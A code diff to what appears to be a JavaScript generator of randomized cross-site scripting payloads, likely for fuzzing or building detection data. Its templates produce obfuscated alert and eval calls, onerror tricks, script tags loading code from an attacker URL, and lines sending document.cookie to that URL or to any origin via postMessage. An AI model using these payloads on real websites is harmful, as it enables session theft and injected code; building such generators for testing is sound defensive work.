@@ -109,7 +109,17 @@ export const script = mostly(
   [text`${dialogue}(${shown});`, 1],
   [text`${callee}.${dialogue}(${shown})`, 1.2],
   [
-    text`${callee}[${oneOf("'alert'", '"alert"', split, "'al\\x65rt'", "'\\x61lert'", '8680439..toString(30)', "atob('YWxlcnQ=')", "'ale'.concat('rt')", "`al${'e'}rt`")}](${shown})`,
+    text`${callee}[${oneOf(
+      "'alert'",
+      '"alert"',
+      split,
+      "'al\\x65rt'",
+      "'\\x61lert'",
+      altered(name, (whole) => `${parseInt(whole, 36)}..toString(36)`),
+      "atob('YWxlcnQ=')",
+      "'ale'.concat('rt')",
+      "`al${'e'}rt`"
+    )}](${shown})`,
     1.6
   ],
   [text`(${oneOf('alert', 'confirm', 'prompt', '_=alert', 'a=alert')})(${shown})`, 0.7],
@@ -117,7 +127,24 @@ export const script = mostly(
   [text`[${integer(1, 9)}].${words('find map forEach some every filter reduce sort findIndex')}(${dialogue})`, 0.7],
   [text`${escapedName}(${shown})`, 0.9],
   [
-    text`eval(${oneOf('name', "'al'+'ert(1)'", "atob('YWxlcnQoMSk=')", text`String.fromCharCode(${repeat(integer(40, 122), 5, 20, ',')})`, 'location.hash.slice(1)', 'location.hash.substr(1)', text`unescape('%61%6c%65%72%74%28%31%29')`, "'\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29'", 'URL', 'event.data')})`,
+    text`eval(${oneOf(
+      'name',
+      "'al'+'ert(1)'",
+      "atob('YWxlcnQoMSk=')",
+      text`String.fromCharCode(${repeat(integer(40, 122), 5, 20, ',')})`,
+      'location.hash.slice(1)',
+      'location.hash.substr(1)',
+      altered(
+        text`${name}(${integer(1, 9)})`,
+        (call) => `unescape('${Array.from(call, (letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')}')`
+      ),
+      altered(
+        text`${name}(${integer(1, 9)})`,
+        (call) => `'${Array.from(call, (letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('')}'`
+      ),
+      'URL',
+      'event.data'
+    )})`,
     1.4
   ],
   [
@@ -129,7 +156,12 @@ export const script = mostly(
     0.9
   ],
   [
-    text`${oneOf('onerror=alert;throw 1', 'throw onerror=alert,1', 'onerror=eval;throw"=alert\\x281\\x29"', '{onerror=alert}throw 1', "window.onerror=alert;throw'xss'", "throw onerror=eval,'=alert\\x281\\x29'")}`,
+    oneOf(
+      text`${maybe('window.')}onerror=${name};throw${oneOf(' ', "'", '"')}${shown}`,
+      text`throw onerror=${name},${shown}`,
+      text`{onerror=${name}}throw ${shown}`,
+      text`onerror=eval;throw'=${name}\\x28${integer(1, 9)}\\x29'`
+    ),
     0.6
   ],
   [
@@ -158,7 +190,10 @@ export const script = mostly(
     0.4
   ],
   [text`${oneOf("import('", '$.getScript("', "importScripts('", '$.get("')}${attackerUrl}${oneOf("')", '")')}`, 0.5],
-  [text`with(document)body.appendChild(createElement('script')).src='${attackerUrl}'`, 0.3],
+  [
+    text`with(document)${oneOf('body', 'head', 'documentElement')}.${oneOf('appendChild', 'append', 'prepend')}(createElement('script')).src='${attackerUrl}'`,
+    0.3
+  ],
   [
     text`var ${letters(LOWER, 1, 4)}=document.createElement('script');${letters(LOWER, 1, 4)}.src='${attackerUrl}';document.${oneOf('body', 'head', 'documentElement')}.appendChild(${letters(LOWER, 1, 4)})`,
     0.6
@@ -174,10 +209,6 @@ export const script = mostly(
   [text`debugger;${dialogue}(1)`, 0.1],
   [text`javascript:${dialogue}(${shown})`, 0.4],
   [text`window.open(${oneOf(text`'javascript:alert(1)'`, text`'${attackerUrl}?'+document.cookie`)})`, 0.3],
-  [
-    text`Object.defineProperties(window,{${lowerWord}:{value:{get:function(){return document.cookie}}}});${dialogue}(${lowerWord}.get())`,
-    0.1
-  ],
   [text`parent.postMessage(document.cookie,'*')`, 0.2],
   [text`alert(${oneOf('', 'document', 'window', 'self')}${oneOf("['cookie']", '.cookie', "['coo'+'kie']")})`, 0.5],
   [text`document.${words('cookie domain title vulnerable')}=${words('true 1 null')}${maybe(';')}`, 0.5],
